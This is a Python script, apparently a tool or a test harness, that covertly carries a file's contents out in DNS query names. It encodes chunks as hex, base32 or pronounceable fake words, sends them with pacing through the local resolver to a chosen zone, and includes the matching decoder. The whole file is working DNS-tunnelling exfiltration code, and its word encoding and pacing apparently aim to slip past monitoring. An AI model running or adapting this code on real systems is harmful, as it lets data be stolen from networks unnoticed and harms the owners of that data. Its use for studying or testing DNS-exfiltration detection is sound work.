#!/usr/bin/python3
# A small program that carries a file out in the names of DNS lookups, and what its receiver decodes.
#
#   exfil.py FILE ZONE TYPE ENCODING PAUSE SECONDS     sends, and prints how many queries it sent
import base64
import os
import random
import socket
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import dns_message

# 2,048 made-up words that read like words: 11 bits each.
_HEADS = [a + b for a in ("br", "c", "d", "fl", "g", "h", "l", "m", "n", "p", "r", "s", "st", "t", "tr", "w")
          for b in "aeou"][:64]
_TAILS = [a + b for a in ("nd", "rk", "ll", "st", "ck", "n", "t", "m") for b in ("", "er", "ing", "y")]
WORDS = [head + tail for head in _HEADS for tail in _TAILS]
NUMBER = {word: i for i, word in enumerate(WORDS)}
OCTETS = {"hex": 24, "base32": 30, "words": 11}  # of the file, a name


def _encode(piece, encoding):
    if encoding == "hex":
        return piece.hex()
    if encoding == "base32":
        return base64.b32encode(piece).decode().lower().rstrip("=")
    bits = int.from_bytes(piece, "big")  # 11 octets: eight words
    words = [WORDS[bits >> 11 * i & 2047] for i in range(8)]
    return "-".join(words[:4]) + "." + "-".join(words[4:])


def name_of(data, number, encoding, zone):
    size = OCTETS[encoding]
    return f"{_encode(data[number * size:(number + 1) * size], encoding)}.{number}.{zone}"


def decoded(name, encoding, zone):
    """(number of the piece, its octets), or None for a name that is none of the program's."""
    if not name.endswith("." + zone):
        return None
    *parts, number = name[:-len(zone) - 1].split(".")
    try:
        if encoding == "hex":
            return int(number), bytes.fromhex("".join(parts))
        if encoding == "base32":
            text = "".join(parts).upper()
            return int(number), base64.b32decode(text + "=" * (-len(text) % 8))
        bits = sum(NUMBER[word] << 11 * i for i, word in enumerate("-".join(parts).split("-")))
        return int(number), bits.to_bytes(11, "big")
    except (ValueError, KeyError, OverflowError):
        return None


def main(path, zone, rtype, encoding, pause, seconds):
    with open(path, "rb") as file:
        data = file.read()
    end, sent = time.monotonic() + float(seconds), 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect(("127.0.0.1", 53))
        sock.settimeout(2)
        for number in range(len(data) // OCTETS[encoding]):
            if time.monotonic() > end:
                break
            sock.send(dns_message.query(name_of(data, number, encoding, zone), rtype, random.getrandbits(16)))
            sent += 1
            try:
                sock.recv(4096)
            except OSError:
                pass
            time.sleep(float(pause))
    print(sent)


if __name__ == "__main__":
    main(*sys.argv[1:])
